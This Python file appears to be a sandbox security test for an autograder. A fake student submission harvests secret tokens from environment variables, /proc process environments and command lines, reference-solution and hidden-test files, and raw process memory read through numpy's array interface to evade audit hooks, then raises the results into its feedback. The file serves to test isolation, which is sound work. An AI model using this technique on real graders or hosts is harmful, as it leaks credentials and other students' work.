"""Attack: read what the grader knows and put it in this submission's own feedback.

Looks at the environment (``os.environ``, ``posix.environ``: the grader sets HF_TOKEN and
AWS_SECRET_ACCESS_KEY), ``sys.argv``/``sys.orig_argv`` and the multiprocessing start data a fork
of the grader would carry (the TA's command line lists every submission of the batch by name),
other processes' command lines and environments under /proc, the grader's files (reference
solution, hidden tests) wherever the installed package says they are, and its own memory (through
numpy's ``__array_interface__``, which no audit hook sees) for the tokens and for other students'
sources. Whatever it finds is raised, so that it ends up in the student's feedback.

What must hold instead: no secret, no other submission's name or code, no hidden test or
reference reaches the student's process, so none appears in its results.
"""
import os
import re
import sys

import numpy as np


class _Raw:
    def __init__(self, addr, n):
        self.__array_interface__ = {"data": (addr, True), "shape": (n,), "typestr": "|u1", "version": 3}


def _memory(patterns):
    found = set()
    for line in open("/proc/self/maps"):
        parts = line.split()
        lo, hi = (int(x, 16) for x in parts[0].split("-"))
        name = parts[5] if len(parts) > 5 else ""
        if not parts[1].startswith("r") or name.startswith("[v") or hi - lo > 1 << 30:
            continue
        try:
            buf = np.asarray(_Raw(lo, hi - lo)).tobytes()
        except Exception:  # noqa: BLE001
            continue
        for p in patterns:
            found.update(m.group(0)[:120] for m in re.finditer(p, buf))
    return sorted(found)


def _try(label, fn, out):
    try:
        out.append(f"{label}={fn()!r}"[:3000])
    except BaseException as e:  # noqa: BLE001
        out.append(f"{label}: {type(e).__name__}")


def sequence_length(h, w, p):
    out = []
    _try("environ", lambda: {k: v for k, v in os.environ.items() if "SECRET" in k or "TOKEN" in k}, out)
    import posix
    _try("posix.environ", lambda: {k: v for k, v in posix.environ.items() if b"SECRET" in k or b"TOKEN" in k}, out)
    _try("argv", lambda: (sys.argv, getattr(sys, "orig_argv", None)), out)

    def mp():
        import multiprocessing.process as mpp
        cur = mpp.current_process()
        return (cur.name, getattr(cur, "_config", {}).get("authkey", b"")[:4], sys.modules.get("__mp_main__"))
    _try("multiprocessing", mp, out)

    def procs():
        res = {}
        for d in os.listdir("/proc"):
            if d.isdigit():
                for f in ("cmdline", "environ"):
                    try:
                        res[f"{d}/{f}"] = open(f"/proc/{d}/{f}", "rb").read()[:300]
                    except OSError:
                        pass
        return res
    _try("proc", procs, out)

    def files():
        res = []
        for base in list(sys.path) + ["/work", "/autograder", "/root", "/home", "/srv", "/opt"]:
            for rel in ("dit/generated/reference.py", "autograder/dit/generated/reference.py",
                        "dit/hidden/q1_patchify.py", "source/autograder/dit/generated/reference.py"):
                path = os.path.join(base, rel)
                try:
                    res.append((path, open(path).read(80)))
                except OSError:
                    pass
        return res
    _try("files", files, out)
    _try("memory", lambda: _memory([rb"hf_SECRET_[A-Za-z0-9]{4,}", rb"AKIA_SECRET_[A-Za-z0-9]{4,}",
                                    rb"victim_secret_[A-Za-z0-9_]{2,}"]), out)
    raise RuntimeError("\n".join(out))
